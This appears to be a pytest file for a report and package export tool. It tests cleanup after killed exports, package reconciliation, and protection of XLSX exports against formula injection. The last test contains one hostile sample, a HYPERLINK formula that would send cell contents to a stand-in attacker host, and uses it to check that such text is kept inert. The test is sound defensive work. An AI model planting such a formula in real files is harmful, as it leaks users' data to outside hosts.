"""What a killed export leaves behind (issue 13, point 7): hidden ``.part`` files, a package
written but never recorded; and text that a spreadsheet would run as a formula."""
from __future__ import annotations

import os
import shutil
import sqlite3
import subprocess
import sys

import pytest
from openpyxl import load_workbook

from app.models.db import meta_set, open_store
from app.models.values import write_values, Change
from app.services.package.format import read_archive
from app.services.package.write import export_package
from app.services.report.export import export_report

CITY = "320100"


@pytest.fixture(autouse=True)
def _keys(tmp_path, monkeypatch):
    monkeypatch.setenv("IPDESK_KEYS_DIR", str(tmp_path / "default-keys"))


def _dead_pid() -> int:
    p = subprocess.Popen([sys.executable, "-c", "pass"])
    p.wait()
    return p.pid


def test_part_files_of_a_killed_export_are_removed_at_the_next(demo_file, tmp_path):
    shutil.copy(demo_file, tmp_path / "s.sqlite")
    db = open_store(tmp_path / "s.sqlite")
    out = tmp_path / "out"
    out.mkdir()
    dead = out / f".南京.pdf.{_dead_pid()}.0.part"            # a report killed while writing
    dead.write_bytes(b"%PDF-1.4 half")
    busy = out / f".南京.pdf.{os.getpid()}.99.part"           # a write still running (this process)
    busy.write_bytes(b"%PDF-1.4 writing")
    other = out / f".别的.pdf.{_dead_pid()}.0.part"           # another file's: not this export's to judge
    other.write_bytes(b"x")
    export_report(db, CITY, 2024, pdf=out / "南京.pdf")
    assert not dead.exists() and busy.exists() and other.exists()
    assert (out / "南京.pdf").read_bytes().startswith(b"%PDF")


def _snapshot(db, path):
    copy = sqlite3.connect(path)
    db.conn.backup(copy)
    copy.close()


def test_a_package_written_but_not_recorded_is_recorded_at_the_next_export(demo_file, tmp_path):
    shutil.copy(demo_file, tmp_path / "s.sqlite")
    db = open_store(tmp_path / "s.sqlite")
    meta_set(db, "home_region", CITY)
    _snapshot(db, tmp_path / "before.sqlite")                 # the store as it was before the export …
    first = export_package(db, CITY, 2024, tmp_path / "out", key_dir=tmp_path / "k")
    db.close()
    # … is the store of an export killed after the file was written, before it was recorded
    shutil.copy(tmp_path / "before.sqlite", tmp_path / "s.sqlite")
    for extra in ("-wal", "-shm"):
        (tmp_path / f"s.sqlite{extra}").unlink(missing_ok=True)
    db = open_store(tmp_path / "s.sqlite")
    assert db.execute("select count(*) from packages_sent").fetchone()[0] == 0
    again = export_package(db, CITY, 2024, tmp_path / "out", key_dir=tmp_path / "k")
    assert len(again.reconciled) == 1 and first.path.name in again.reconciled[0]
    assert again.seq == 2 and again.previous == first.hash            # the new one follows the one on the stick
    assert [r for (r,) in db.execute("select hash from packages_sent order by seq")] == [first.hash, again.hash]
    assert read_archive(again.path).manifest["previous"] == first.hash


def test_an_unrecorded_package_that_does_not_follow_is_removed(demo_file, tmp_path):
    shutil.copy(demo_file, tmp_path / "s.sqlite")
    db = open_store(tmp_path / "s.sqlite")
    meta_set(db, "home_region", CITY)
    _snapshot(db, tmp_path / "before.sqlite")
    first = export_package(db, CITY, 2024, tmp_path / "elsewhere", key_dir=tmp_path / "k")
    db.close()
    shutil.copy(tmp_path / "before.sqlite", tmp_path / "s.sqlite")
    for extra in ("-wal", "-shm"):
        (tmp_path / f"s.sqlite{extra}").unlink(missing_ok=True)
    db = open_store(tmp_path / "s.sqlite")
    recorded = export_package(db, CITY, 2024, tmp_path / "out", key_dir=tmp_path / "k")   # v1, recorded
    stale = tmp_path / "out" / "320100_2024_v7.ipdx"
    shutil.copy(first.path, stale)                  # an unrecorded v1 of another history, under any name
    nxt = export_package(db, CITY, 2024, tmp_path / "out", key_dir=tmp_path / "k")
    assert not stale.exists() and len(nxt.reconciled) == 1 and "320100_2024_v7.ipdx" in nxt.reconciled[0]
    assert nxt.seq == 2 and nxt.previous == recorded.hash


def test_formula_looking_text_is_kept_text_in_the_report_xlsx(demo_file, tmp_path):
    shutil.copy(demo_file, tmp_path / "s.sqlite")
    db = open_store(tmp_path / "s.sqlite")
    value = db.execute('select value from "values" where region=? and indicator=? and period=?',
                       [CITY, "INV_GRANTS", "2024"]).fetchone()[0]
    note = '=HYPERLINK("http://evil.example/?"&A1,"点此核对")'
    write_values(db, [Change(CITY, "INV_GRANTS", "2024", value, note)], who="t")
    res = export_report(db, CITY, 2024, xlsx=tmp_path / "r.xlsx")
    wb = load_workbook(res.xlsx)
    found = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value == note]
    assert found, "the note is in the workbook"
    for c in found:
        assert c.data_type == "s" and isinstance(c.value, str) and c.quotePrefix
    # every text cell that starts like a formula is quoted, in every sheet
    risky = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@"))]
    assert risky and all(c.data_type == "s" and c.quotePrefix for c in risky)
